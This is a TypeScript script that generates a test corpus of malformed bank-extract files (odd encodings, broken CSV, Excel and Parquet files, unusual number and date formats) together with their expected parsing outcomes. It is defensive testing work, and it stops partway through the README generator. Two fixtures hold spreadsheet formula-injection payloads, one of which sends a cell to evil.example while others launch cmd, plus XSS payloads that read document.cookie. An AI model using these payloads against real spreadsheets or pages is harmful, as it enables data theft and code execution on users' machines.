/**
 * Writes the hostile-input corpus: small files that each try one way a real bank extract goes
 * wrong, plus the table of what must happen to each (expected.json, and README.md rendering the
 * same data for people, so the two cannot drift).
 *
 *   npx tsx scripts/make-hostile-corpus.ts
 *
 * Deterministic: no clock, no Math.random (mulberry32 seeded per file), so the same command writes
 * the same bytes every run. Encodings are real bytes: iconv-lite for GBK / GB18030 / UTF-16, BOMs
 * written explicitly. Expected outcomes are what a careful bank analyst expects from the spec and
 * the issue ("correct data plus a warning, or a clear error naming file, line and field — never a
 * crash, a hang, a blank page, or numbers silently set to 0"), not what the code currently does.
 *
 * The 2 GB case is not a file: the browser test simulates the size, the CLI test makes a sparse
 * file at test time (see test/engine/hostile-cli.test.ts).
 */
import { mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import * as XLSX from '@e965/xlsx';
import iconv from 'iconv-lite';
import { EXPECTED_FILE, HOSTILE_DIR, type HostileCase, type HostileValue } from '../test/support/hostile';

const DIR = HOSTILE_DIR;
const MAX_BYTES = 100 * 1024;
const H = '客户号,客户姓名,月日均AUM(元),数据日期';
const D = '2025-01-31';

// ── bytes ──────────────────────────────────────────────────────────────────────────────────────

const BOM_UTF8 = Buffer.from([0xef, 0xbb, 0xbf]);
const BOM_UTF16LE = Buffer.from([0xff, 0xfe]);
const BOM_UTF16BE = Buffer.from([0xfe, 0xff]);

const lines = (rows: readonly string[], eol = '\n') => rows.join(eol) + eol;
const utf8 = (text: string) => Buffer.from(text, 'utf8');
const gbk = (text: string) => {
  const b = iconv.encode(text, 'gbk');
  if (iconv.decode(b, 'gbk') !== text) throw new Error(`not representable in GBK: ${text.slice(0, 40)}`);
  return b;
};
const gb18030 = (text: string) => {
  const b = iconv.encode(text, 'gb18030');
  if (new TextDecoder('gb18030').decode(b) !== text) throw new Error('GB18030 round trip failed');
  return b;
};
const isUtf8 = (b: Uint8Array) => {
  try {
    new TextDecoder('utf-8', { fatal: true }).decode(b);
    return true;
  } catch {
    return false;
  }
};
const isGb18030 = (b: Uint8Array) => {
  try {
    new TextDecoder('gb18030', { fatal: true }).decode(b);
    return true;
  } catch {
    return false;
  }
};

/** mulberry32, seeded from the file name: each file has its own stream. */
function rng(seedText: string): () => number {
  let a = 0x9e3779b9;
  for (const ch of seedText) a = Math.imul(a ^ ch.charCodeAt(0), 0x85ebca6b) >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// ── regex sources (written as literals so escaping is checked by the compiler) ─────────────────

const re = (r: RegExp) => r.source;
/** Every pattern must hold, in any order (lookaheads over the whole text). */
const all = (...parts: RegExp[]) => parts.map((p) => `(?=[\\s\\S]*?${p.source})`).join('');

// ── the corpus ─────────────────────────────────────────────────────────────────────────────────

interface Entry extends HostileCase {
  /** The bytes, or a function making them (async for Parquet). */
  readonly bytes?: Uint8Array | (() => Promise<Uint8Array>);
}

const v = (customer_id: string, aum: number | null, extra: Partial<HostileValue> = {}): HostileValue => ({ customer_id, aum, ...extra });
const ok = { exit: 0 } as const;

function xlsxBook(aoa: (string | number | null)[][], dateRows: number[], dateCol: number, merges: XLSX.Range[] = []): Uint8Array {
  const ws = XLSX.utils.aoa_to_sheet(aoa);
  for (const r of dateRows) {
    const cell = ws[XLSX.utils.encode_cell({ r, c: dateCol })] as XLSX.CellObject | undefined;
    if (cell) cell.z = 'yyyy-mm-dd';
  }
  if (merges.length > 0) ws['!merges'] = merges;
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, ws, '客户');
  // Fixed document dates: SheetJS otherwise stamps the current time.
  wb.Props = { Title: 'hostile', CreatedDate: new Date(Date.UTC(2025, 0, 31)), ModifiedDate: new Date(Date.UTC(2025, 0, 31)) };
  return new Uint8Array(XLSX.write(wb, { type: 'buffer', bookType: 'xlsx', compression: false, bookSST: true }) as Buffer);
}

// 2025-01-31 as an Excel (1900 system) serial number.
const SERIAL_2025_01_31 = 45688;

const MERGED_XLSX = xlsxBook(
  [
    ['客户信息', null, '资产信息', null],
    ['客户号', '客户姓名', '月日均AUM(元)', '数据日期'],
    ['C001', '张伟', 120000, SERIAL_2025_01_31],
    ['C002', '王芳', '12.3万', SERIAL_2025_01_31],
    ['C003', '李娜', '-', SERIAL_2025_01_31],
    ['C004', '刘洋', 5500000, SERIAL_2025_01_31],
  ],
  [2, 3, 4, 5],
  3,
  [XLSX.utils.decode_range('A1:B1'), XLSX.utils.decode_range('C1:D1')],
);

const PLAIN_XLSX = xlsxBook(
  [
    ['客户号', '客户姓名', '月日均AUM(元)', '数据日期'],
    ['C001', '张伟', 120000, SERIAL_2025_01_31],
    ['C002', '王芳', 550000, SERIAL_2025_01_31],
    ['C003', '李娜', 48000, SERIAL_2025_01_31],
  ],
  [1, 2, 3],
  3,
);

let nestedParquet: Uint8Array | undefined;
async function makeNestedParquet(): Promise<Uint8Array> {
  if (nestedParquet) return nestedParquet;
  const tmp = path.join(tmpdir(), `hostile-nested-${process.pid}.parquet`);
  const db = await DuckDBInstance.create(':memory:');
  const c = await db.connect();
  try {
    await c.run(`COPY (SELECT * FROM (VALUES
        ('C001', '张伟', 120000.50::DECIMAL(18,2), DATE '2025-01-31', {'city': '杭州', 'zip': '310000'}, ['代发', '理财']),
        ('C002', '王芳', 550000::DECIMAL(18,2), DATE '2025-01-31', {'city': '宁波', 'zip': '315000'}, []::VARCHAR[]),
        ('C003', '李娜', NULL::DECIMAL(18,2), DATE '2025-01-31', NULL, NULL),
        ('C004', '刘洋', 48000::DECIMAL(18,2), DATE '2025-01-31', {'city': NULL, 'zip': '325000'}, ['基金'])
      ) t("客户号", "客户姓名", "月日均AUM(元)", "数据日期", address, tags)) TO '${tmp}' (FORMAT parquet, COMPRESSION uncompressed)`);
    nestedParquet = new Uint8Array(readFileSync(tmp));
    return nestedParquet;
  } finally {
    c.closeSync();
    db.closeSync();
    rmSync(tmp, { force: true });
  }
}

function asciiHeaderThenGbk(): Uint8Array {
  const ascii = ['cust_id,name,AUM,snapshot_date'];
  for (let i = 1; i <= 1200; i++) ascii.push(`C${String(i).padStart(4, '0')},Customer ${String(i).padStart(4, '0')},${((i * 7919) % 900000) + 1000},${D}`);
  const tail = ['C1201,张伟,120000', 'C1202,王芳,550000', 'C1203,欧阳娜娜,48000', 'C1204,李娜,90000', 'C1205,赵磊,6000000'].map((r) => `${r},${D}`);
  const b = Buffer.concat([utf8(lines(ascii)), gbk(lines(tail))]);
  // The point of the file: the first 32 KB are valid UTF-8, the whole file is not.
  if (!isUtf8(b.subarray(0, 32 * 1024)) || isUtf8(b) || !isGb18030(b)) throw new Error('gbk_ascii_header.csv does not have the intended shape');
  return b;
}

function garbage(name: string, n: number, lo: number): Uint8Array {
  const r = rng(name);
  const b = new Uint8Array(n);
  for (let i = 0; i < n; i++) b[i] = lo + Math.floor(r() * (256 - lo));
  return b;
}

function wide(): Uint8Array {
  const extra = Array.from({ length: 197 }, (_x, i) => `指标${String(i + 4).padStart(3, '0')}`);
  // 200 columns: 客户号, 月日均AUM(元), 数据日期 and 197 indicator columns (no name column).
  const rows = [['客户号', '月日均AUM(元)', '数据日期', ...extra].join(',')];
  const r = rng('wide_200_columns.csv');
  for (let i = 1; i <= 10; i++) rows.push([`C${String(i).padStart(3, '0')}`, String(i * 60000), D, ...extra.map(() => String(Math.floor(r() * 1000)))].join(','));
  return utf8(lines(rows));
}

const ENTRIES: Entry[] = [
  // ── encodings ──
  {
    file: 'utf8_bom.csv',
    case: 'UTF-8 with BOM; the BOM must not stick to the first header (客户号 still maps)',
    bytes: Buffer.concat([BOM_UTF8, utf8(lines([H, `C001,张伟,120000,${D}`, `C002,王芳,550000,${D}`, `C003,李娜,48000,${D}`]))]),
    outcome: 'ok',
    rows: 3,
    values: [v('C001', 120000, { customer_name: '张伟', period: D }), v('C003', 48000)],
    cli: ok,
  },
  {
    file: 'gbk_excel.csv',
    case: 'GBK, CRLF, as Excel on Chinese Windows saves it (control case; also the "already loaded" file)',
    bytes: gbk(lines(['客户号,客户姓名,所属支行,月日均AUM(元),数据日期', `C001,张伟,杭州西湖支行,"1,234,567.89",${D}`, `C002,王芳,宁波江北支行,88000,${D}`, `C003,刘洋,温州鹿城支行,6000000,${D}`, `C004,陈静,绍兴越城支行,0,${D}`], '\r\n')),
    outcome: 'ok',
    rows: 4,
    values: [v('C001', 1234567.89, { customer_name: '张伟', period: D }), v('C003', 6000000), v('C004', 0)],
    cli: ok,
  },
  {
    file: 'gb18030_rare_chars.csv',
    case: 'GB18030 with characters outside GBK (4-byte sequences: 䶮, 𠮷, 𪚥) in names',
    bytes: gb18030(lines([H, `C001,李䶮,120000,${D}`, `C002,𠮷野,550000,${D}`, `C003,欧阳𪚥,48000,${D}`], '\r\n')),
    outcome: 'ok',
    rows: 3,
    values: [v('C001', 120000, { customer_name: '李䶮' }), v('C002', 550000, { customer_name: '𠮷野' }), v('C003', 48000, { customer_name: '欧阳𪚥' })],
    cli: ok,
  },
  {
    file: 'gbk_ascii_header.csv',
    case: 'GBK file whose header (and first 1,200 rows, ~45 KB) is plain ASCII, so it only looks UTF-8; Chinese names come at the end',
    bytes: asciiHeaderThenGbk(),
    outcome: 'ok',
    rows: 1205,
    values: [v('C0001', 8919, { period: D }), v('C1203', 48000, { customer_name: '欧阳娜娜' }), v('C1205', 6000000, { customer_name: '赵磊' })],
    cli: ok,
  },
  {
    file: 'bom_gbk_mix.csv',
    case: 'UTF-8 BOM and UTF-8 header/rows, then rows appended in GBK (two exports concatenated)',
    bytes: Buffer.concat([BOM_UTF8, utf8(lines([H, `C001,张伟,120000,${D}`, `C002,王芳,550000,${D}`])), gbk(lines([`C003,陈静,48000,${D}`, `C004,刘洋,90000,${D}`]))]),
    outcome: 'error',
    message: re(/bom_gbk_mix\.csv, line 4\b.*(decode|encoding|UTF-8|GBK|GB18030)/i),
    cli: { exit: 1, stderr: re(/bom_gbk_mix\.csv, line 4\b.*(decode|encoding|UTF-8|GBK|GB18030)/i) },
  },
  {
    file: 'bom_then_gbk.csv',
    case: 'a UTF-8 BOM in front of a file that is entirely GBK',
    bytes: Buffer.concat([BOM_UTF8, gbk(lines([H, `C001,张伟,120000,${D}`, `C002,王芳,550000,${D}`], '\r\n'))]),
    outcome: 'error',
    message: re(/bom_then_gbk\.csv, line 1\b.*(decode|encoding|UTF-8|GBK|GB18030)/i),
    cli: { exit: 1, stderr: re(/bom_then_gbk\.csv, line 1\b.*(decode|encoding|UTF-8|GBK|GB18030)/i) },
  },
  {
    file: 'utf16le_bom.csv',
    case: 'UTF-16LE with BOM, tab-separated, CRLF (Excel "Unicode Text"); "-" is no value',
    bytes: Buffer.concat([BOM_UTF16LE, iconv.encode(lines(['客户号\t客户姓名\t月日均AUM(元)\t数据日期', `C001\t张伟\t120000\t${D}`, `C002\t王芳\t"1,500,000.00"\t${D}`, `C003\t李娜\t-\t${D}`], '\r\n'), 'utf16le')]),
    outcome: 'ok',
    rows: 3,
    values: [v('C001', 120000, { customer_name: '张伟', period: D }), v('C002', 1500000), v('C003', null)],
    cli: ok,
  },
  {
    file: 'utf16be_bom.csv',
    case: 'UTF-16BE with BOM, comma-separated',
    bytes: Buffer.concat([BOM_UTF16BE, iconv.encode(lines([H, `C001,张伟,120000,${D}`, `C002,王芳,550000,${D}`, `C003,李娜,48000,${D}`]), 'utf16be')]),
    outcome: 'ok',
    rows: 3,
    values: [v('C001', 120000, { customer_name: '张伟', period: D }), v('C003', 48000)],
    cli: ok,
  },
  {
    file: 'utf16le_nobom.csv',
    case: 'UTF-16LE without a BOM: recognised by its NUL pattern and read (never called "binary")',
    bytes: iconv.encode(lines([H, `C001,张伟,120000,${D}`, `C002,王芳,550000,${D}`]), 'utf16le'),
    outcome: 'ok',
    rows: 2,
    values: [v('C001', 120000, { customer_name: '张伟', period: D }), v('C002', 550000)],
    cli: ok,
  },

  // ── structure ──
  {
    file: 'ragged_rows.csv',
    case: 'ragged rows: line 3 has an extra field, line 4 a missing one',
    bytes: utf8(lines([H, `C001,张伟,120000,${D}`, `C002,王芳,85000,${D},多余字段`, `C003,李娜,${D}`, `C004,刘洋,560000,${D}`])),
    outcome: 'ok-with-warning',
    rows: 2,
    message: re(/ragged_rows\.csv, line 3\b[\s\S]*ragged_rows\.csv, line 4\b/),
    values: [v('C001', 120000), v('C004', 560000)],
    cli: { exit: 1, stderr: re(/ragged_rows\.csv, line 3\b/) },
  },
  {
    file: 'unterminated_quote.csv',
    case: 'a quote opened on line 3 and never closed (would swallow the rest of the file)',
    bytes: utf8(lines([H, `C001,张伟,120000,${D}`, `C002,"王芳,85000,${D}`, `C003,李娜,300000,${D}`, `C004,刘洋,560000,${D}`])),
    outcome: 'error',
    message: re(/unterminated_quote\.csv, line 3\b.*quot/i),
    cli: { exit: 1, stderr: re(/unterminated_quote\.csv, line 3\b.*quot/i) },
  },
  {
    file: 'quoted_newline_ragged.csv',
    case: 'a quoted name spanning lines 2–3, then a ragged row on physical line 5 (line numbers must count physical lines)',
    bytes: utf8(lines([H, `C001,"张伟`, `(张大伟)",120000,${D}`, `C002,王芳,550000,${D}`, `C003,李娜,48000,${D},多余`, `C004,刘洋,90000,${D}`])),
    outcome: 'ok-with-warning',
    rows: 3,
    message: re(/quoted_newline_ragged\.csv, line 5\b/),
    values: [v('C001', 120000, { customer_name: '张伟\n(张大伟)' }), v('C004', 90000)],
    cli: { exit: 1, stderr: re(/quoted_newline_ragged\.csv, line 5\b/) },
  },
  {
    file: 'semicolon_blank_lines.csv',
    case: 'semicolon-separated, CRLF, blank lines between and after rows, padded cells',
    bytes: utf8(lines(['客户号;客户姓名;月日均AUM(元);数据日期', `C001;张伟; 120000 ;${D}`, '', `C002;王芳;550000;${D}`, '', `C003;李娜;48000 ;${D}`, '', ''], '\r\n')),
    outcome: 'ok',
    rows: 3,
    values: [v('C001', 120000, { period: D }), v('C002', 550000), v('C003', 48000)],
    cli: ok,
  },
  {
    file: 'empty.csv',
    case: 'empty file (0 bytes)',
    bytes: new Uint8Array(0),
    outcome: 'error',
    message: re(/empty\.csv\b.*empty/i),
    cli: { exit: 1, stderr: re(/empty\.csv\b.*empty/i) },
  },
  {
    file: 'header_only.csv',
    case: 'header only, no data rows',
    bytes: utf8(lines([H])),
    outcome: 'error',
    message: re(/header_only\.csv\b.*(no (data )?rows|no records|only (a|the) header|header only|empty)/i),
    cli: { exit: 1, stderr: re(/header_only\.csv\b.*(no (data )?rows|no records|only (a|the) header|header only|empty)/i) },
  },
  {
    file: 'single_column.csv',
    case: 'a single column (客户号 only): loads, but retail-aum lacks aum',
    bytes: utf8(lines(['客户号', 'C001', 'C002', 'C003'])),
    outcome: 'ok',
    rows: 3,
    cli: { exit: 1, stderr: re(/single_column\.csv: missing required field "aum"/) },
  },
  {
    file: 'wide_200_columns.csv',
    case: '200 columns (客户号, 月日均AUM(元), 数据日期 and 197 indicators)',
    bytes: wide(),
    outcome: 'ok',
    rows: 10,
    values: [v('C001', 60000, { period: D }), v('C010', 600000)],
    cli: ok,
  },
  {
    file: 'duplicate_headers.csv',
    case: 'two columns both named 月日均AUM(元) with different values: the first is used and the user is told',
    bytes: utf8(lines(['客户号,客户姓名,月日均AUM(元),月日均AUM(元),数据日期', `C001,张伟,120000,999,${D}`, `C002,王芳,550000,1,${D}`])),
    outcome: 'ok-with-warning',
    rows: 2,
    message: re(/duplicate_headers\.csv\b.*月日均AUM\(元\)/),
    values: [v('C001', 120000), v('C002', 550000)],
    cli: { exit: 0, stderr: re(/warning: .*duplicate_headers\.csv\b.*月日均AUM\(元\)/) },
  },
  {
    file: 'duplicate_ids.csv',
    case: 'customer C002 twice in the same period (lines 3 and 5)',
    bytes: utf8(lines([H, `C001,张伟,120000,${D}`, `C002,王芳,550000,${D}`, `C003,李娜,48000,${D}`, `C002,王芳,560000,${D}`, `C004,刘洋,90000,${D}`])),
    outcome: 'ok-with-warning',
    rows: 5,
    message: re(/duplicate_ids\.csv, line [35]\b.*C002/),
    values: [v('C001', 120000), v('C004', 90000)],
    cli: { exit: 1, stderr: re(/duplicate_ids\.csv, line [35]\b.*C002/) },
  },

  // ── numbers ──
  {
    file: 'thousands_separators.csv',
    case: 'thousands separators "1,234.56", Excel exponent 1.2E+07, ¥ prefix, padded cell',
    bytes: utf8(lines([H, `C001,张伟,"1,234.56",${D}`, `C002,王芳,"1,234,567.89",${D}`, `C003,李娜,1.2E+07,${D}`, `C004,刘洋,"¥12,000.00",${D}`, `C005,陈静,"  98,765 ",${D}`])),
    outcome: 'ok',
    rows: 5,
    values: [v('C001', 1234.56), v('C002', 1234567.89), v('C003', 12000000), v('C004', 12000), v('C005', 98765)],
    cli: ok,
  },
  {
    file: 'chinese_units.csv',
    case: 'Chinese units: 12.3万, 1.5亿, 8千元, 3万元, 50万, ￥5万, 1,200元',
    bytes: utf8(lines([H, `C001,张伟,12.3万,${D}`, `C002,王芳,1.5亿,${D}`, `C003,李娜,8千元,${D}`, `C004,刘洋,3万元,${D}`, `C005,陈静,50万,${D}`, `C006,杨帆,￥5万,${D}`, `C007,赵磊,"1,200元",${D}`])),
    outcome: 'ok',
    rows: 7,
    values: [v('C001', 123000), v('C002', 150000000), v('C003', 8000), v('C004', 30000), v('C005', 500000), v('C006', 50000), v('C007', 1200)],
    cli: ok,
  },
  {
    file: 'accounting_parentheses.csv',
    case: 'accounting negatives (1,000), (250.50), (5万): negative, so unrated',
    bytes: utf8(lines([H, `C001,张伟,"(1,000)",${D}`, `C002,王芳,(250.50),${D}`, `C003,李娜,(5万),${D}`, `C004,刘洋,"120,000",${D}`])),
    outcome: 'ok',
    rows: 4,
    values: [v('C001', -1000), v('C002', -250.5), v('C003', -50000), v('C004', 120000)],
    cli: ok,
  },
  {
    file: 'missing_tokens.csv',
    case: '"no value" tokens -, N/A, n/a, --, NULL, empty, #N/A, — are null (unrated), never 0; a real 0 stays 0',
    bytes: utf8(lines([H, `C001,张伟,-,${D}`, `C002,王芳,N/A,${D}`, `C003,李娜,--,${D}`, `C004,刘洋,NULL,${D}`, `C005,陈静,,${D}`, `C006,杨帆,#N/A,${D}`, `C007,赵磊,—,${D}`, `C008,黄敏,0,${D}`, `C009,周杰,n/a,${D}`])),
    outcome: 'ok',
    rows: 9,
    values: [v('C001', null), v('C002', null), v('C003', null), v('C004', null), v('C005', null), v('C006', null), v('C007', null), v('C008', 0), v('C009', null)],
    cli: ok,
  },
  {
    file: 'negative_aum.csv',
    case: 'negative AUM (-5000, -0.01, -1200000): kept as numbers, tiered unrated',
    bytes: utf8(lines([H, `C001,张伟,-5000,${D}`, `C002,王芳,-0.01,${D}`, `C003,李娜,100,${D}`, `C004,刘洋,-1200000,${D}`])),
    outcome: 'ok',
    rows: 4,
    values: [v('C001', -5000), v('C002', -0.01), v('C003', 100), v('C004', -1200000)],
    cli: ok,
  },
  {
    file: 'invalid_aum_text.csv',
    case: 'unreadable amounts: abc, "12,34" (bad grouping), 1.2.3, 1e999, 五万: left empty (not 0) and listed with line and column',
    bytes: utf8(lines([H, `C001,张伟,120000,${D}`, `C002,王芳,abc,${D}`, `C003,李娜,"12,34",${D}`, `C004,刘洋,1.2.3,${D}`, `C005,陈静,1e999,${D}`, `C006,杨帆,五万,${D}`])),
    outcome: 'ok-with-warning',
    rows: 6,
    message: re(/invalid_aum_text\.csv, line 3, column "月日均AUM\(元\)".*abc/),
    values: [v('C001', 120000), v('C002', null), v('C003', null), v('C004', null), v('C005', null), v('C006', null)],
    cli: { exit: 0, stderr: re(/warning: .*invalid_aum_text\.csv\b.*line 3\b.*月日均AUM\(元\)/) },
  },

  // ── dates and periods ──
  {
    file: 'date_slash.csv',
    case: 'period written 2025/1/31',
    bytes: utf8(lines([H, `C001,张伟,120000,2025/1/31`, `C002,王芳,550000,2025/1/31`])),
    outcome: 'ok',
    rows: 2,
    values: [v('C001', 120000, { period: D }), v('C002', 550000, { period: D })],
    cli: ok,
  },
  {
    file: 'date_compact.csv',
    case: 'period written 20250131',
    bytes: utf8(lines([H, `C001,张伟,120000,20250131`, `C002,王芳,550000,20250131`])),
    outcome: 'ok',
    rows: 2,
    values: [v('C001', 120000, { period: D }), v('C002', 550000, { period: D })],
    cli: ok,
  },
  {
    file: 'date_excel_serial.csv',
    case: 'period as Excel serial numbers (45688 = 2025-01-31) in a CSV: read as dates and said so',
    bytes: utf8(lines([H, `C001,张伟,120000,${SERIAL_2025_01_31}`, `C002,王芳,550000,${SERIAL_2025_01_31}`, `C003,李娜,48000,${SERIAL_2025_01_31}`])),
    outcome: 'ok-with-warning',
    rows: 3,
    message: all(/date_excel_serial\.csv/, /数据日期/, /(Excel|serial|序列)/i),
    values: [v('C001', 120000, { period: D }), v('C003', 48000, { period: D })],
    cli: { exit: 0, stderr: re(/warning: .*date_excel_serial\.csv\b.*(Excel|serial|序列)/i) },
  },
  {
    file: 'period_date_spellings.csv',
    case: 'one period spelled five ways: 2025-01-31, 2025/1/31, 20250131, 2025年1月31日, 2025.01.31 (one period)',
    bytes: utf8(lines([H, `C001,张伟,120000,2025-01-31`, `C002,王芳,550000,2025/1/31`, `C003,李娜,48000,20250131`, `C004,刘洋,90000,2025年1月31日`, `C005,陈静,6000000,2025.01.31`])),
    outcome: 'ok',
    rows: 5,
    values: ['C001', 'C002', 'C003', 'C004', 'C005'].map((id, i) => v(id, [120000, 550000, 48000, 90000, 6000000][i]!, { period: D })),
    cli: ok,
  },
  {
    file: 'period_mixed_formats.csv',
    case: 'period column mixing dates (three spellings) with months (2025-01, 2025年1月): every value read as its month, one period, the mix reported',
    bytes: utf8(lines([H, `C001,张伟,120000,2025-01-31`, `C002,王芳,550000,2025/1/31`, `C003,李娜,48000,2025-01`, `C004,刘洋,90000,20250131`, `C005,陈静,6000000,2025年1月`])),
    outcome: 'ok-with-warning',
    rows: 5,
    message: all(/period_mixed_formats\.csv/, /数据日期/),
    values: [v('C001', 120000, { period: '2025-01' }), v('C002', 550000, { period: '2025-01' }), v('C003', 48000, { period: '2025-01' }), v('C004', 90000, { period: '2025-01' })],
    cli: { exit: 0, stderr: all(/warning: .*period_mixed_formats\.csv/, /数据日期/) },
  },

  // ── not what the name says ──
  {
    file: 'binary_garbage.csv',
    case: 'binary garbage (with NUL bytes) named .csv',
    bytes: garbage('binary_garbage.csv', 4096, 0),
    outcome: 'error',
    message: re(/binary_garbage\.csv\b.*(binary|not a text)/i),
    cli: { exit: 1, stderr: re(/binary_garbage\.csv\b.*(binary|not a text)/i) },
  },
  {
    file: 'garbage_no_nul.csv',
    case: 'binary garbage without NUL bytes (neither UTF-8 nor GB18030) named .csv',
    bytes: (() => {
      const b = garbage('garbage_no_nul.csv', 4096, 1);
      if (isUtf8(b) || isGb18030(b)) throw new Error('garbage_no_nul.csv decodes');
      return b;
    })(),
    outcome: 'error',
    message: re(/garbage_no_nul\.csv\b.*(binary|not a text|decode|encoding)/i),
    cli: { exit: 1, stderr: re(/garbage_no_nul\.csv\b.*(binary|not a text|decode|encoding)/i) },
  },
  {
    file: 'text_named.xlsx',
    case: 'CSV text named .xlsx',
    bytes: utf8(lines([H, `C001,张伟,120000,${D}`])),
    outcome: 'error',
    message: re(/text_named\.xlsx\b.*(not an? (Excel|XLSX)|unrecognised|unrecognized|unsupported|workbook)/i),
    cli: { exit: 1, stderr: re(/text_named\.xlsx\b.*(not an? (Excel|XLSX)|unrecognised|unrecognized|unsupported|workbook)/i) },
  },

  // ── Excel ──
  {
    file: 'merged_header.xlsx',
    case: 'XLSX with a merged group-header band (客户信息 A1:B1, 资产信息 C1:D1) above the real header row; date cells; 12.3万 as text',
    bytes: MERGED_XLSX,
    outcome: 'ok-with-warning',
    rows: 4,
    message: re(/merged_header\.xlsx\b.*(merged|合并)/i),
    values: [v('C001', 120000, { customer_name: '张伟', period: D }), v('C002', 123000), v('C003', null), v('C004', 5500000)],
    cli: { exit: 0, stderr: re(/warning: .*merged_header\.xlsx\b.*(merged|合并)/i) },
  },
  {
    file: 'renamed_xlsx.csv',
    case: 'a real XLSX renamed to .csv (content wins over the extension); date cells',
    bytes: PLAIN_XLSX,
    outcome: 'ok',
    rows: 3,
    values: [v('C001', 120000, { customer_name: '张伟', period: D }), v('C003', 48000)],
    cli: ok,
  },
  {
    file: 'truncated.xlsx',
    case: 'XLSX cut off half way (download interrupted)',
    bytes: MERGED_XLSX.slice(0, Math.floor(MERGED_XLSX.length / 2)),
    outcome: 'error',
    message: re(/truncated\.xlsx\b.*(Excel|workbook|zip|corrupt|truncated|damaged)/i),
    cli: { exit: 1, stderr: re(/truncated\.xlsx\b.*(Excel|workbook|zip|corrupt|truncated|damaged)/i) },
  },

  // ── Parquet ──
  {
    file: 'nested_types.parquet',
    case: 'Parquet with nested types (STRUCT address, LIST tags) beside DECIMAL AUM and DATE period: data loads, nested columns reported',
    bytes: makeNestedParquet,
    outcome: 'ok-with-warning',
    rows: 4,
    message: all(/nested_types\.parquet/, /(address|tags)/),
    values: [v('C001', 120000.5, { customer_name: '张伟', period: D }), v('C003', null), v('C004', 48000)],
    cli: { exit: 0, stderr: all(/warning: .*nested_types\.parquet/, /(address|tags)/) },
  },
  {
    file: 'truncated.parquet',
    case: 'Parquet cut off (starts with PAR1, no footer)',
    bytes: async () => {
      const b = await makeNestedParquet();
      return b.slice(0, Math.floor(b.length * 0.6));
    },
    outcome: 'error',
    message: re(/truncated\.parquet\b.*Parquet/i),
    cli: { exit: 1, stderr: re(/truncated\.parquet\b.*Parquet/i) },
  },

  // ── JSON ──
  {
    file: 'bad_line.ndjson',
    case: 'NDJSON whose line 3 is cut off (missing closing brace)',
    bytes: utf8(
      lines([
        `{"客户号":"C001","客户姓名":"张伟","月日均AUM(元)":120000,"数据日期":"${D}"}`,
        `{"客户号":"C002","客户姓名":"王芳","月日均AUM(元)":550000,"数据日期":"${D}"}`,
        `{"客户号":"C003","客户姓名":"李娜","月日均AUM(元)":48000,"数据日期":"${D}"`,
        `{"客户号":"C004","客户姓名":"刘洋","月日均AUM(元)":90000,"数据日期":"${D}"}`,
      ]),
    ),
    outcome: 'error',
    message: re(/bad_line\.ndjson, line 3\b/),
    cli: { exit: 1, stderr: re(/bad_line\.ndjson, line 3\b/) },
  },

  // ── content that attacks the viewer ──
  {
    file: 'formula_injection.csv',
    case: 'ids and names starting with =, +, -, @, TAB (CSV formula injection): kept verbatim, neutralised on CSV export',
    bytes: utf8(
      lines([
        H,
        `=1+1,"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",120000,${D}`,
        `+8613800000000,+cmd|' /C calc'!A0,60000,${D}`,
        `-C003,-2+3,45000,${D}`,
        `@C004,@SUM(1+1)*cmd|' /C calc'!A0,700000,${D}`,
        `C005,"\t=1+2",99000,${D}`,
      ]),
    ),
    outcome: 'ok',
    rows: 5,
    values: [
      v('=1+1', 120000, { customer_name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")' }),
      v('+8613800000000', 60000, { customer_name: "+cmd|' /C calc'!A0" }),
      v('-C003', 45000, { customer_name: '-2+3' }),
      v('@C004', 700000, { customer_name: "@SUM(1+1)*cmd|' /C calc'!A0" }),
      v('C005', 99000),
    ],
    cli: ok,
  },
  {
    file: 'html_names.csv',
    case: 'names with HTML/JS (<img src=x onerror=…>, <script>, "><svg onload=…>): kept verbatim as text',
    bytes: utf8(
      lines([
        H,
        `C001,<img src=x onerror=alert(1)>,120000,${D}`,
        `C002,"<script>alert(""客户"")</script>",550000,${D}`,
        `C003,"""><svg onload=alert(document.cookie)>",48000,${D}`,
        `C004,<b>王</b>&amp;,5000000,${D}`,
      ]),
    ),
    outcome: 'ok',
    rows: 4,
    values: [
      v('C001', 120000, { customer_name: '<img src=x onerror=alert(1)>' }),
      v('C002', 550000, { customer_name: '<script>alert("客户")</script>' }),
      v('C003', 48000, { customer_name: '"><svg onload=alert(document.cookie)>' }),
      v('C004', 5000000, { customer_name: '<b>王</b>&amp;' }),
    ],
    cli: ok,
  },

  // ── mapping ──
  {
    file: 'needs_map.csv',
    case: 'headers no alias knows (账户编号, 持仓市值合计, 快照日): loads with --map customer_id=账户编号 --map aum=持仓市值合计 --map period=快照日',
    bytes: utf8(lines(['账户编号,持仓市值合计,快照日', `A001,120000,${D}`, `A002,"550,000",${D}`, `A003,-,${D}`])),
    outcome: 'ok',
    rows: 3,
    map: { customer_id: '账户编号', aum: '持仓市值合计', period: '快照日' },
    values: [v('A001', 120000, { period: D }), v('A002', 550000), v('A003', null)],
    cli: ok,
  },

  // ── size (not a file) ──
  {
    file: 'huge_2gib.csv',
    case: '2 GiB CSV (a valid header and 3 rows, then NUL padding): size-simulated in the browser test; CLI: generated sparse file at test time. Must be refused quickly with a clear message (or handled), never hang or exhaust memory',
    generated: 'sparse-2GiB',
    outcome: 'error',
    message: re(/huge_2gib\.csv\b.*(too (large|big)|size|GiB|GB|binary|not a text)/i),
    cli: { exit: 1, stderr: re(/huge_2gib\.csv\b.*(too (large|big)|size|GiB|GB|binary|not a text)/i) },
  },
];

// ── write ──────────────────────────────────────────────────────────────────────────────────────

function cell(text: string): string {
  return text.replaceAll('|', '\\|').replaceAll('\n', '\\n').replaceAll('\t', '\\t');
}

function readme(cases: readonly HostileCase[]): string {
  const out = [
    '# Hostile-input corpus',
    '',
    'Generated by `npx tsx scripts/make-hostile-corpus.ts` together with `expected.json` (the same data: do not edit either by hand).',
    'Each file is run through the browser ingest (`loadFile` on DuckDB-WASM, and the e2e suite) and the command line',
